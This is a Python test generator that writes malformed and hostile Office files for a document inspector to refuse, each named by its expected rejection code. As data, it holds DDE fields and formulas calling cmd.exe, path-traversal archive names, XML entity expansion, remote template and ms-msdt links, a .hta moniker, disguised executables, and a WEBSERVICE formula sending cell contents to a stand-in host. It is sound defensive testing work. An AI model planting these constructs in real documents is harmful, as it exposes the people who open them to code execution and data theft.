"""Writes files that must be refused or flagged, one or more for each reason.

Usage: python crafted.py FOLDER

The parts come from `forge.py`. A name is `CODE--what-was-done.EXTENSION`: the inspector must report CODE. In the
subfolder `strict` the files must be refused under the strict policy only.
"""

import io
import struct
import sys
import zipfile
import zlib
from pathlib import Path

from forge import (
    HEAD, MICROSOFT, OFFICE, OOXML, S, W, WORD, Archive, archive, body, compound, excel, lying, native, packaged, powerpoint,
    rels, types, word,
)


def containers():
    good = archive(word())
    yield "empty_file--no-bytes.docx", b""
    yield "not_zip--text.docx", b"This is not an Office file.\n" * 20
    yield "not_zip--rtf.docx", b"{\\rtf1 text}"
    yield "not_zip--html.xlsx", b"<html><table></table></html>"
    yield "password_protected--encrypted-package.docx", compound([("EncryptionInfo", b"x"), ("EncryptedPackage", b"y" * 5000)])
    # How the password is checked, in the format of Excel 2007 and in that of later versions: the first is encrypted after
    # [MS-OFFCRYPTO] 2.3.4.7 with a salt of its own, the second by msoffcrypto-tool; and the first with another password.
    lines = (Path(__file__).parent / "excel_password.txt").read_text().splitlines()
    for what, info in (line.split() for line in lines):
        code = "password_protected" if what == "other" else "excel_password"
        yield f"{code}--{what}.xlsx", compound([("EncryptionInfo", bytes.fromhex(info)), ("EncryptedPackage", b"y" * 5000)])
    yield "legacy_format--doc.docx", compound([("WordDocument", b"x" * 5000)])
    yield "zip_truncated--half.docx", good[: len(good) // 2]
    yield "zip_truncated--end-cut.docx", good[:-4]
    yield "zip_truncated--no-directory.docx", good[: good.index(b"PK\1\2")]
    yield "zip_extra_data--before.docx", b"MZ" + bytes(100) + good
    yield "zip_extra_data--after.docx", good + b"<script>x</script>"
    yield "zip_extra_data--two-line-ends.docx", good + b"\n\n"
    yield "zip_extra_data--before-end.docx", archive(word(), before_end=b"hidden")
    yield "zip_extra_data--before-directory.docx", archive(word(), between=b"hidden")
    yield "zip_extra_data--between-entries.docx", lying(after=b"hidden bytes", files=None)
    yield "zip_extra_data--comment-with-second-end.docx", archive(word(), comment=b"PK\5\6" + bytes(18) + b"xx")
    writer = Archive()
    writer.data += b"hidden"
    for name, content in word():
        writer.add(name, content)
    yield "zip_extra_data--first-offset.docx", writer.finish()
    yield "zip_multi_disk--disk-number.docx", archive(word(), disk=1)
    yield "zip_multi_disk--entries-differ.docx", archive(word(), here=1)
    yield "zip_multi_disk--entry-on-disk-two.docx", lying(central={"disk": 2})
    yield "zip_extra_data--count-too-small.docx", archive(word(), here=2, total=2)
    yield "zip_header_mismatch--count-too-large.docx", archive(word(), here=9, total=9)


def headers():
    for field, value in (("crc", 1), ("size", 3), ("packed", 3), ("method", 0), ("flags", 8), ("name", b"word/other.png")):
        yield f"zip_header_mismatch--{field}.docx", lying(local={field: value})
    yield "zip_header_mismatch--name-in-two-encodings.docx", lying(("word/media/é.png", b"picture"), local={"flags": 0x800})
    yield "zip_header_mismatch--no-descriptor.docx", lying(flags=8, local={"crc": 0, "size": 0, "packed": 0})
    yield "zip_header_mismatch--descriptor-lies.docx", lying(
        flags=8, local={"crc": 0, "size": 0, "packed": 0}, descriptor=lambda crc, packed, size: struct.pack("<4sIII", b"PK\7\x08", crc, packed, size + 1))
    yield "zip_header_mismatch--second-name.docx", lying(central_extra=struct.pack("<HHBI", 0x7075, 5 + 9, 1, 0) + b"other.png")
    yield "zip_damaged--checksum.docx", lying(local={"crc": 7}, central={"crc": 7})
    yield "zip_damaged--longer-than-declared.docx", lying(local={"size": 9}, central={"size": 9})
    yield "zip_damaged--shorter-than-declared.docx", lying(local={"size": 4000}, central={"size": 4000})
    yield "zip_damaged--not-deflate.docx", lying(raw=b"\xff" * 40)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    yield "zip_damaged--data-after-deflate.docx", lying(raw=packer.compress(b"picture " * 50) + packer.flush() + b"hidden")
    yield "zip64_inconsistent--missing-field.docx", lying(central={"size": 0xFFFFFFFF})
    yield "zip64_inconsistent--needless-and-different.docx", lying(central_extra=struct.pack("<HHQ", 1, 8, 99999))
    locator = struct.pack("<4sIQI", b"PK\6\7", 0, 12, 1)
    yield "zip64_inconsistent--locator-astray.docx", archive(word(), before_end=locator)
    writer = Archive()
    for name, content in word():
        writer.add(name, content)
    start, size, count = len(writer.data), len(writer.directory()), len(writer.entries)
    for what, wide in (("entries", (count + 1, size, start)), ("size", (count, size - 1, start)), ("start", (count, size, start + 1))):
        entries, length, place = wide
        end64 = struct.pack("<4sQHHIIQQQQ", b"PK\6\6", 44, 45, 45, 0, 0, entries, entries, length, place)
        here = struct.pack("<4sIQI", b"PK\6\7", 0, start + size, 1)
        yield f"zip64_inconsistent--other-{what}.docx", writer.finish(before_end=end64 + here)
    for flag in (0, 6, 13):
        yield f"zip_encrypted--flag-{flag}.docx", lying(flags=1 << flag)
    for method in (1, 9, 12, 14, 93, 99):
        yield f"zip_method--{method}.docx", lying(method=method)
    yield "zip_duplicate_name--same.docx", archive([*word(), ("word/document.xml", body("other"))])
    yield "zip_duplicate_name--case.docx", archive([*word(), ("Word/Document.xml", body("other"))])
    yield "zip_duplicate_name--percent.docx", archive([*word(), ("word/d%6Fcument.xml", body("other"))])
    for what, name in (("parent", "word/../../evil.xml"), ("absolute", "/word/document.xml"), ("mixture", "word\\evil.xml"),
                       ("control", "word/a\x01.xml"), ("drive", "C:/evil.xml"), ("zero", "word/a.xml\0.png"), ("dot", "./evil.xml"),
                       ("encoded", "%2e%2e/evil.xml"), ("empty-segment", "word//evil.xml"), ("direction", "word/\u202efdp.xml")):
        yield f"zip_unsafe_name--{what}.docx", archive([*word(), (name, b"<a/>")])
    # Where no name has a slash, a backslash divides; what leads elsewhere stays what it is.
    divided = [(name.replace("/", "\\"), content) for name, content in word()]
    for what, name in (("parent", "word\\..\\..\\evil.xml"), ("drive", "C:\\evil.xml"), ("absolute", "\\word\\evil.xml"),
                       ("server", "\\\\server\\evil.xml"), ("slash", "word/evil.xml"), ("encoded", "%2e%2e\\evil.xml")):
        yield f"zip_unsafe_name--backslash-{what}.docx", archive([*divided, (name, b"<a/>")])
    yield "zip_duplicate_name--backslash.docx", archive([*divided, ("WORD\\document.xml", body("other"))])
    yield "zip_special_file--link.docx", lying(attributes=0o120777 << 16)
    yield "zip_special_file--device.docx", lying(attributes=0o020666 << 16)
    # Two entries of the directory that name the same bytes, and one inside the data of another.
    writer = Archive()
    for name, content in word():
        writer.add(name, content)
    writer.entries.append({**writer.entries[-1], "name": b"word/again.xml"})
    yield "zip_overlap--same-offset.docx", writer.finish()
    inner = bytes(Archive().add("word/inner.xml", b"<a/>", method=0).data)
    writer = Archive()
    for name, content in word():
        writer.add(name, content)
    offset = len(writer.data) + 30 + len("word/media/a.bin")
    writer.add("word/media/a.bin", inner, method=0)
    writer.entries.append({**writer.entries[-1], "name": b"word/inner.xml", "crc": zlib.crc32(b"<a/>"), "packed": 4, "size": 4, "offset": offset})
    yield "zip_overlap--inside-data.docx", writer.finish()


def budgets():
    yield "too_many_entries--ten-thousand.docx", archive([*word(), *((f"word/a{n}.xml", b"<a/>") for n in range(10_001))])


def markup():
    doctype = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x "y">]><w>&x;</w>'
    laughs = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'
    outside = b'<!DOCTYPE a SYSTEM "http://example.com/a.dtd"><a/>'
    yield "xml_doctype--entity.docx", archive(word(doctype))
    yield "xml_doctype--utf16.docx", archive(word(doctype.decode().encode("utf-16")))
    yield "xml_doctype--utf16-big.docx", archive(word(b"\xfe\xff" + doctype.decode().encode("utf-16-be")))
    yield "xml_doctype--expansion.xlsx", archive(excel(parts={"xl/sharedStrings.xml": laughs}))
    yield "xml_doctype--relationships.pptx", archive(powerpoint(parts={"ppt/slides/_rels/slide2.xml.rels": outside}))
    yield "xml_doctype--content-types.docx", archive([("[Content_Types].xml", outside), *word()[1:]])
    yield "xml_doctype--custom-xml.docx", archive(word(parts={"customXml/item1.xml": outside}))
    yield "xml_doctype--vml.xlsx", archive(excel(parts={"xl/drawings/vmlDrawing1.vml": outside}))
    yield "xml_encoding--utf7.docx", archive(word(b'<?xml version="1.0" encoding="UTF-7"?><a/>'))
    yield "xml_encoding--latin1.docx", archive(word(b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe4</a>'))
    yield "xml_encoding--utf16-without-mark.docx", archive(word("<a/>".encode("utf-16-le")))
    yield "xml_encoding--utf32.docx", archive(word("<a/>".encode("utf-32")))
    yield "xml_malformed--open.docx", archive(word(f'<w:document xmlns:w="{W}"><w:body>'.encode()))
    yield "xml_malformed--two-roots.docx", archive(word(b"<a/><b/>"))
    header = [("/word/header1.xml", OOXML + "wordprocessingml.header+xml")]
    yield "xml_malformed--header.docx", archive(word(parts={"word/header1.xml": b"<a>"}, overrides=header))
    yield "xml_malformed--relationships.docx", archive(word(parts={"word/_rels/header1.xml.rels": b"<Relationships"}))
    yield "strict/xml_malformed--leftover.docx", archive(word(parts={"notes.xml": b"== notes.xml =="}))
    yield "xml_doctype--no-type.docx", archive(word(parts={"word/header1.dat": b'<?xml version="1.0"?><!DOCTYPE a><a/>'}))
    yield "xml_too_complex--depth.docx", archive(word(b"".join(b"<a b='%d'>" % n for n in range(9000)) + b"</a>" * 9000))
    attributes = "".join(f' a{n}="1"' for n in range(2000))
    yield "xml_too_complex--attributes.docx", archive(word(f"<w:r{attributes}/>"))
    spaces = "".join(f' xmlns:a{n}="urn:{n}"' for n in range(2000))
    yield "xml_too_complex--namespaces.docx", archive(word(f"<w:r{spaces}/>"))


def packages():
    yield "content_types_missing--no-entries.docx", Archive().finish()
    yield "content_types_missing--archive.docx", archive([("readme.txt", b"text")])
    yield "content_types_missing--opendocument.docx", archive([("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<a/>")])
    decoy = types([("/word/document.xml", WORD), ("/Word/Document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml")])
    yield "content_types_invalid--two-types.docx", archive([("[Content_Types].xml", decoy), *word()[1:]])
    foreign = types([("/word/document.xml", WORD)]).replace(b"<Override", b'<x:Override xmlns:x="urn:x"')
    yield "content_types_invalid--foreign.docx", archive([("[Content_Types].xml", foreign), *word()[1:]])
    yield "relationships_invalid--foreign.docx", archive(word(parts={"word/_rels/a.xml.rels": b'<Relationships xmlns="urn:x"/>'}))
    yield "main_part_missing--no-relationships.docx", archive([word()[0], word()[2]])
    yield "main_part_missing--no-part.docx", archive(word()[:2])
    yield "main_part_missing--external.docx", archive([word()[0], ("_rels/.rels", rels(("officeDocument", "word/document.xml", True))), word()[2]])
    two = rels(("officeDocument", "word/document.xml"), ("officeDocument", "word/other.xml"))
    yield "main_part_ambiguous--two.docx", archive([word()[0], ("_rels/.rels", two), *word()[2:]])
    strict = rels(("officeDocument", "word/document.xml"), ("http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument", "word/other.xml"))
    yield "main_part_ambiguous--strict-and-transitional.docx", archive([word()[0], ("_rels/.rels", strict), *word()[2:]])
    yield "kind_mismatch--workbook.docx", archive(excel())
    yield "kind_mismatch--document.pptx", archive(word())
    yield "kind_mismatch--presentation.xlsx", archive(powerpoint())
    yield "unknown_main_type--xml.docx", archive(word(main="application/xml"))
    micro = "application/vnd.ms-"
    for what, build, extension, main in (
        ("docm", word, "docx", micro + "word.document.macroEnabled.main+xml"),
        ("dotm", word, "docx", micro + "word.template.macroEnabledTemplate.main+xml"),
        ("xlsm", excel, "xlsx", micro + "excel.sheet.macroEnabled.main+xml"),
        ("xltm", excel, "xlsx", micro + "excel.template.macroEnabled.main+xml"),
        ("pptm", powerpoint, "pptx", micro + "powerpoint.presentation.macroEnabled.main+xml"),
        ("ppsm", powerpoint, "pptx", micro + "powerpoint.slideshow.macroEnabled.main+xml"),
        ("case", word, "docx", micro + "WORD.Document.MACROENABLED.main+xml; charset=utf-8"),
    ):
        yield f"macro_enabled_type--{what}.{extension}", archive(build(main=main))
    yield "template_type--dotx.docx", archive(word(main=OOXML + "wordprocessingml.template.main+xml"))
    yield "template_type--xltx.xlsx", archive(excel(main=OOXML + "spreadsheetml.template.main+xml"))
    yield "template_type--potx.pptx", archive(powerpoint(main=OOXML + "presentationml.template.main+xml"))
    yield "slideshow_type--ppsx.pptx", archive(powerpoint(main=OOXML + "presentationml.slideshow.main+xml"))
    yield "addin_type--xlam.xlsx", archive(excel(main=micro + "excel.addin.macroEnabled.main+xml"))
    yield "addin_type--ppam.pptx", archive(powerpoint(main=micro + "powerpoint.addin.macroEnabled.main+xml"))
    yield "binary_workbook_type--xlsb.xlsx", archive(excel(main=micro + "excel.sheet.binary.macroEnabled.main"))


def programs():
    vba = "application/vnd.ms-office.vbaProject"
    yield "macro_part--name.docx", archive(word(parts={"word/vbaProject.bin": b"x"}))
    yield "macro_part--type.docx", archive(word(parts={"word/data.bin": b"x"}, overrides=[("/word/data.bin", vba)]))
    yield "macro_part--default-type.xlsx", archive(excel(parts={"xl/data.bin": b"x"}, defaults=[("bin", vba)]))
    yield "macro_part--relationship.pptx", archive(powerpoint(links=[(MICROSOFT + "/vbaProject", "../data.dat")]))
    yield "macro_part--javascript.xlsx", archive(excel(links=[("http://schemas.onlyoffice.com/jsaProject", "a.bin")], parts={"xl/a.bin": b"x"}))
    yield "macro_part--vba-data.docx", archive(word(parts={"word/vbaData.xml": b"<a/>"}))
    sheet = "application/vnd.ms-excel.macrosheet+xml"
    yield "macro_sheet--folder.xlsx", archive(excel(parts={"xl/macrosheets/sheet1.xml": b"<a/>"}))
    yield "macro_sheet--type.xlsx", archive(excel(parts={"xl/worksheets/sheet2.xml": b"<a/>"}, overrides=[("/xl/worksheets/sheet2.xml", sheet)]))
    yield "macro_sheet--international.xlsx", archive(excel(parts={"xl/a.xml": b"<a/>"}, overrides=[("/xl/a.xml", sheet.replace("macro", "intlmacro"))]))
    yield "macro_sheet--international-relationship.xlsx", archive(excel(links=[(MICROSOFT + "/xlIntlMacrosheet", "a.xml")]))
    yield "macro_sheet--relationship.xlsx", archive(excel(links=[(MICROSOFT + "/xlMacrosheet", "a.xml")]))
    yield "active_x--type.docx", archive(word(parts={"word/a.xml": b"<a/>"}, overrides=[("/word/a.xml", "application/vnd.ms-office.activeX+xml")]))
    yield "active_x--relationship.pptx", archive(powerpoint(links=[("control", "../activeX1.xml")]))
    yield "active_x--binary.docx", archive(word(parts={"word/a/_rels/a.xml.rels": rels((MICROSOFT + "/activeXControlBinary", "a.bin"))}))
    yield "active_x--folder.xlsx", archive(excel(parts={"xl/activeX/activeX1.bin": b"x"}))
    yield "alt_chunk--html.docx", archive(word(links=[("aFChunk", "chunk.html")], parts={"word/chunk.html": b"<html/>"}))
    yield "alt_chunk--rtf.docx", archive(word(links=[("aFChunk", "chunk.rtf")], parts={"word/chunk.rtf": b"{\\rtf1}"}))
    ole = compound([("\x01Ole", b"x" * 20), ("CONTENTS", b"y" * 5000)])
    yield "embedded_object--compound.docx", archive(word(parts={"word/embeddings/oleObject1.bin": ole}))
    yield "embedded_object--other-file.docx", archive(word(parts={"word/embeddings/a.pdf": b"%PDF-1.7"}))
    yield "embedded_object--legacy-workbook.pptx", archive(powerpoint(parts={"ppt/embeddings/a.xls": compound([("Workbook", b"x")])}))
    yield "strict/embedded_object--compound.docx", archive(word(parts={"word/embeddings/oleObject1.bin": ole}))
    plain = io.BytesIO()
    with zipfile.ZipFile(plain, "w") as inner:
        inner.writestr("readme.txt", "text")
    yield "embedded_archive--zip.docx", archive(word(parts={"word/embeddings/a.zip": plain.getvalue()}))
    yield "embedded_archive--packaged.docx", archive(word(parts={"word/embeddings/oleObject1.bin": packaged(b"a.zip", plain.getvalue())}))
    yield "embedded_archive--binary-workbook.pptx", archive(powerpoint(parts={
        "ppt/embeddings/a.xlsb": archive(excel(main="application/vnd.ms-excel.sheet.binary.macroEnabled.main"))}))
    yield "strict/embedded_archive--zip.docx", archive(word(parts={"word/embeddings/a.zip": plain.getvalue()}))
    macros = archive(excel(parts={"xl/vbaProject.bin": b"x"}))
    yield "embedded_macro--project.docx", archive(word(parts={"word/embeddings/a.xlsx": macros}))
    yield "embedded_macro--type.docx", archive(word(parts={"word/embeddings/a.bin": archive(word(main="application/vnd.ms-word.document.macroEnabled.main+xml"))}))
    yield "embedded_macro--extension.pptx", archive(powerpoint(parts={"ppt/embeddings/a.docm": archive(word())}))
    yield "embedded_macro--compound.docx", archive(word(parts={"word/embeddings/oleObject1.bin": compound([("_VBA_PROJECT", b"x")])}))
    legacy = packaged(b"a.doc", compound([("_VBA_PROJECT", b"x")]))
    yield "embedded_macro--packaged.docx", archive(word(parts={"word/embeddings/oleObject1.bin": legacy}))
    two = compound([("Package", macros), ("Package", archive(excel()))])
    yield "embedded_macro--first-of-two.docx", archive(word(parts={"word/embeddings/oleObject1.bin": two}))
    yield "embedded_macro--package-in-compound.docx", archive(word(parts={"word/embeddings/oleObject1.bin": compound([("Package", macros)])}))
    yield "password_protected--embedded.docx", archive(word(parts={"word/embeddings/a.xlsx": compound([("EncryptedPackage", b"x" * 5000)])}))
    yield "xml_doctype--embedded.docx", archive(word(parts={"word/embeddings/a.xlsx": archive(excel(parts={"xl/a.xml": b"<!DOCTYPE a><a/>"}))}))
    yield "embedded_executable--name.docx", archive(word(parts={"word/embeddings/setup.exe": b"x"}))
    yield "embedded_executable--named-xml.docx", archive(word(parts={"word/a.xml": b"MZ\x90\0" + bytes(80)}))
    yield "embedded_executable--windows.docx", archive(word(parts={"word/embeddings/a.bin": b"MZ\x90\0" + bytes(80)}))
    yield "embedded_executable--linux.pptx", archive(powerpoint(parts={"ppt/media/image1.png": b"\x7fELF\2\1\1" + bytes(80)}))
    yield "embedded_executable--script.docx", archive(word(parts={"word/embeddings/a.js": b"WScript.Echo(1)"}))
    yield "embedded_executable--packaged.docx", archive(word(parts={"word/embeddings/oleObject1.bin": packaged(b"invoice.pdf.exe", b"MZ\x90\0")}))
    many = compound([("\x01Ole", b"x" * 20)] * 20 + [native(b"a.txt", b"text")] * 20 + [native(b"a.vbs", b"x = 1")])
    yield "embedded_executable--last-of-many.docx", archive(word(parts={"word/embeddings/oleObject1.bin": many}))
    yield "embedded_executable--packaged-script.docx", archive(word(parts={"word/embeddings/oleObject1.bin": packaged(b"a.vbs", b"x = 1")}))
    deep = archive(excel())
    for number in range(3):
        deep = archive(word(parts={f"word/embeddings/{number}.docx": deep}))
    yield "embedded_too_deep--five.pptx", archive(powerpoint(parts={"ppt/embeddings/a.docx": deep}))


def links():
    web, server = "https://example.com/", "file://server/share/"
    for what, target in (("web", web + "a.dotm"), ("entities", "&#104;ttps://example.com/a.dotm"), ("unc", "\\\\server\\a.dotm"),
                         ("file-unc", server + "a.dotm"), ("four-slashes", "file:////server/a.dotm"), ("scheme", "ftp://example.com/a.dotm"),
                         ("percent", "%5c%5cserver%5ca.dotm"), ("blank", "&#10; " + web), ("device", "\\\\?\\UNC\\server\\a.dotm")):
        yield f"remote_template--{what}.docx", archive(word(parts={"word/_rels/settings.xml.rels": rels(("attachedTemplate", target, True))}))
    template = rels(("attachedTemplate", web, True))
    utf16 = template.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16")
    yield "remote_template--utf16.docx", archive(word(parts={"word/_rels/settings.xml.rels": utf16}))
    yield "remote_template--no-mode.docx", archive(word(parts={"word/_rels/settings.xml.rels": rels(("attachedTemplate", web))}))
    yield "remote_template--other-part.docx", archive(word(parts={"docProps/_rels/app.xml.rels": template}))
    yield "local_template--drive.docx", archive(word(parts={"word/_rels/settings.xml.rels": rels(("attachedTemplate", "file:///C:\\a.dotx", True))}))
    for kind in ("oleObject", "frame", "subDocument", "package"):
        yield f"external_object--{kind}.docx", archive(word(links=[(kind, web + "a.html!", True)]))
    yield "external_link--object.docx", archive(word(links=[("oleObject", "file:///C:\\Budget.xlsx!Sheet1", True)]))
    yield "external_object--object-in-address.docx", archive(word(links=[("oleObject", "file:///C:\\a.html!x-usc:http://example.com/a", True)]))
    yield "external_object--slideUpdateUrl.pptx", archive(powerpoint(links=[("slideUpdateUrl", web, True)]))
    yield "external_object--workbook.xlsx", archive(excel(parts={"xl/externalLinks/_rels/externalLink1.xml.rels": rels(("oleObject", web, True))}))
    yield "external_object--strict.docx", archive(word(links=[("http://purl.oclc.org/ooxml/officeDocument/relationships/oleObject", "mhtml:https://example.com/a!b", True)]))
    # An embedded object that is nothing but the address it is loaded from.
    moniker = bytes.fromhex("0100000201000000 00000000 00000000 e0c9ea79f9bace118c8200aa004ba90b") + (web + "a.hta").encode("utf-16-le")
    yield "external_object--moniker.docx", archive(word(parts={"word/embeddings/oleObject1.bin": compound([("\x01Ole", moniker)])}))
    budget = {"xl/externalLinks/_rels/externalLink1.xml.rels": rels(("externalLinkPath", "Budget.xlsx", True))}
    yield "external_link--workbook.xlsx", archive(excel(parts=budget))
    chart = [("/word/charts/chart1.xml", OOXML + "drawingml.chart+xml")]
    local = {"word/charts/chart1.xml": b"<a/>", "word/charts/_rels/chart1.xml.rels": rels(("oleObject", "file:///C:\\a.xlsx", True))}
    yield "external_link--chart.docx", archive(word(parts=local, overrides=chart))
    yield "external_image--web.docx", archive(word(links=[("image", web + "a.png", True)]))
    drawing = '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="%s"/></xml>'
    yield "external_image--vml.xlsx", archive(excel(parts={"xl/drawings/vmlDrawing1.vml": (drawing % web).encode()}))
    yield "unc_path--vml.xlsx", archive(excel(parts={"xl/drawings/vmlDrawing1.vml": (drawing % server).encode()}))
    yield "unc_path--image.docx", archive(word(links=[("image", server + "a.png", True)]))
    yield "unc_path--sound.pptx", archive(powerpoint(links=[("audio", server + "a.wav", True)]))
    yield "unc_path--mail-merge.docx", archive(word(parts={"word/_rels/settings.xml.rels": rels(("mailMergeSource", server + "a.csv", True))}))
    yield "mail_merge_source--list.docx", archive(word(parts={"word/_rels/settings.xml.rels": rels(("mailMergeSource", "file:///C:\\a.csv", True))}))
    settings = HEAD + f'<w:settings xmlns:w="{W}"><w:mailMerge><w:odso><w:udl w:val="Provider=x"/></w:odso></w:mailMerge></w:settings>'.encode()
    yield "mail_merge_source--database.docx", archive(word(parts={"word/settings.xml": settings}))
    types = [("/xl/connections.xml", OOXML + "spreadsheetml.connections+xml")]
    for code, target, when in (("data_connection", "C:\\a.accdb", ""), ("unc_path", "\\\\server\\a.accdb", 'refreshOnLoad="1"')):
        database = f'<connections xmlns="{S}"><connection id="1" type="5" {when}><dbPr connection="Provider=x;Data Source={target}"/></connection></connections>'
        yield f"{code}--database.xlsx", archive(excel(parts={"xl/connections.xml": HEAD + database.encode()}, overrides=types))
    for what, target in (("script", "javascript:alert(1)"), ("file", "file:///C:\\a.docx"), ("scheme", "ms-msdt:/id"), ("server", server)):
        yield f"unusual_hyperlink--{what}.docx", archive(word(links=[("hyperlink", target, True)]))


def fields_and_formulas():
    def run(text):
        return f"<w:r><w:instrText>{text}</w:instrText></w:r>"

    def mark(kind):
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    def field(*runs):
        return mark("begin") + "".join(runs) + mark("end")

    yield "dde_field--auto.docx", archive(word(field(run("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"))))
    yield "dde_field--runs.docx", archive(word(field(run("D"), run("D"), run("E "), run("excel"))))
    yield "dde_field--simple.docx", archive(word('<w:fldSimple w:instr=" dde excel x"/>'))
    yield "dde_field--quote.docx", archive(word(field(field(run("QUOTE 68 68 69")), run(" excel"))))
    yield "dde_field--deleted.docx", archive(word("<w:del><w:r><w:delInstrText>DDE x</w:delInstrText></w:r></w:del>"))
    yield "dde_field--nested-results.docx", archive(word(field(run("D"), field(run("X"), mark("separate"), "<w:r><w:t>D</w:t></w:r>"), run("E x"))))
    yield "dde_field--no-type.docx", archive(word(parts={"word/header1.dat": body(field(run("DDE x")))}))
    yield "unusual_hyperlink--field.docx", archive(word(field(run(' HYPERLINK "file:///C:\\\\a.docx" '))))
    yield "dde_field--header.docx", archive(word(parts={"word/header1.xml": body(field(run("DDE x")))}))
    yield "dde_field--entities.docx", archive(word(field(run("&#68;&#x44;E x"))))
    yield "dde_field--strict.docx", archive(word(body(field(run("DDE x"))).replace(W.encode(), b"http://purl.oclc.org/ooxml/wordprocessingml/main")))
    yield "dde_field--prefix.docx", archive(word(body(field(run("DDE x"))).replace(b"w:", b"z:").replace(b"xmlns:w", b"xmlns:z")))
    # Verdicts of fields in other places are among the rules that hold for every spelling.
    for name in ("INCLUDETEXT", "INCLUDEPICTURE", "LINK", "DATABASE", "RD"):
        yield f"pulling_field--{name.lower()}.docx", archive(word(field(run(f" {name} x"))))
    link = f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
    yield "dde_link--service.xlsx", archive(excel(parts={"xl/externalLinks/externalLink1.xml": link}))
    yield "dde_formula--cell.xlsx", archive(excel("<f>cmd|'/C calc'!A0</f>"))
    yield "dde_formula--name.xlsx", archive(excel(workbook="<definedNames><definedName name=\"x\">cmd|'/C calc'!A0</definedName></definedNames>"))
    yield "dde_formula--validation.xlsx", archive(excel(parts={"xl/worksheets/sheet2.xml": b"<a><formula1><f>cmd|'/C calc'!A0</f></formula1></a>"}))
    yield "dde_formula--entities.xlsx", archive(excel("<f>cmd&#124;&apos;/C calc&apos;&#33;A0</f>"))
    for what, code in (("program", "action_program"), ("macro?name=x", "action_macro")):
        name = what.split("?")[0]
        yield f"{code}--{name}.pptx", archive(powerpoint(f'<a:hlinkClick action="ppaction://{what}"/>'))
        yield f"{code}--{name}-hover.pptx", archive(powerpoint(f'<a:hlinkHover action=" PPACTION://{what}"/>'))


# One rule for one danger, whatever its spelling


def on_request():
    """Links that are followed when the reader agrees, and the same where the file asks for them by itself."""
    server, web = "file:///\\\\server\\share\\a.xlsx", "https://example.sharepoint.com/a.xlsx"
    path = {"xl/externalLinks/_rels/externalLink1.xml.rels": rels(("externalLinkPath", server, True))}
    missing = {"xl/externalLinks/_rels/externalLink1.xml.rels": rels((MICROSOFT + "/xlExternalLinkPath/xlPathMissing", server, True))}
    yield "server_link--workbook.xlsx", archive(excel(parts=path))
    yield "server_link--workbook-missing.xlsx", archive(excel(parts=missing))
    yield "server_link--workbook-asked.xlsx", archive(excel(parts=path, workbook='<workbookPr updateLinks="userSet"/>'))
    yield "unc_path--workbook-always.xlsx", archive(excel(parts=path, workbook='<workbookPr updateLinks="always"/>'))
    yield "server_link--spelled-out.xlsx", archive(excel("<f>SUM('\\\\server\\share\\[a.xlsx]Sheet1'!A1)</f>"))
    chart = [("/xl/charts/chart1.xml", OOXML + "drawingml.chart+xml")]
    c = "http://schemas.openxmlformats.org/drawingml/2006/chart"
    for what, target, update, code in (
        ("server", server, '<c:autoUpdate val="0"/>', "server_link"), ("server-unsaid", server, "", "server_link"),
        ("web", web, '<c:autoUpdate val="0"/>', "external_link"), ("server-update", server, '<c:autoUpdate val="1"/>', "external_object"),
        ("web-update", web, "<c:autoUpdate/>", "external_object"), ("scheme", "mhtml:http://example.com/a", "", "external_object"),
    ):
        space = f'<c:chartSpace xmlns:c="{c}" xmlns:r="{OFFICE}"><c:externalData r:id="rId1">{update}</c:externalData></c:chartSpace>'
        yield f"{code}--chart-{what}.xlsx", archive(excel(overrides=chart, parts={
            "xl/charts/chart1.xml": HEAD + space.encode(), "xl/charts/_rels/chart1.xml.rels": rels(("oleObject", target, True))}))
    kinds = [("/xl/connections.xml", OOXML + "spreadsheetml.connections+xml")]

    def connection(inside, attributes="", parts=None):
        text = f'<connections xmlns="{S}"><connection id="3" {attributes}>{inside}</connection></connections>'
        return archive(excel(parts={"xl/connections.xml": HEAD + text.encode(), **(parts or {})}, overrides=kinds))

    query = f'<queryTable xmlns="{S}" connectionId="3" refreshOnLoad="1"/>'.encode()
    pivot = f'<pivotCacheDefinition xmlns="{S}" refreshOnLoad="1"><cacheSource type="external" connectionId="3"/></pivotCacheDefinition>'.encode()
    yield "server_link--odc.xlsx", connection("", 'odcFile="\\\\server\\a.odc"')
    yield "server_link--web-query.xlsx", connection('<webPr url="file://server/a.htm"/>')
    yield "server_link--text.xlsx", connection('<textPr sourceFile="\\\\server\\a.csv"/>')
    yield "server_link--database.xlsx", connection('<dbPr connection="Provider=x;Data Source=\\\\server\\a.accdb"/>')
    yield "unc_path--odc-on-load.xlsx", connection("", 'odcFile="\\\\server\\a.odc" refreshOnLoad="1"')
    yield "unc_path--text-interval.xlsx", connection('<textPr sourceFile="\\\\server\\a.csv"/>', 'interval="10"')
    yield "unc_path--text-query.xlsx", connection('<textPr sourceFile="\\\\server\\a.csv"/>', parts={"xl/queryTables/queryTable1.xml": query})
    yield "unc_path--text-pivot.xlsx", connection('<textPr sourceFile="\\\\server\\a.csv"/>', parts={"xl/pivotCache/pivotCacheDefinition1.xml": pivot})
    cache = [("/xl/pivotCache/pivotCacheDefinition1.xml", OOXML + "spreadsheetml.pivotCacheDefinition+xml")]
    for code, when in (("server_link", "0"), ("unc_path", "1")):
        source = f'<pivotCacheDefinition xmlns="{S}" xmlns:r="{OFFICE}" refreshOnLoad="{when}"><cacheSource><worksheetSource ref="A1" r:id="rId1"/></cacheSource></pivotCacheDefinition>'
        yield f"{code}--pivot-{when}.xlsx", archive(excel(overrides=cache, parts={
            "xl/pivotCache/pivotCacheDefinition1.xml": source.encode(),
            "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": rels(("externalLinkPath", server, True))}))


def formulas_everywhere():
    fetch = '_xlfn.WEBSERVICE("https://example.com/?"&amp;A1)'
    yield "fetching_formula--cell.xlsx", archive(excel(f"<f>{fetch}</f>"))
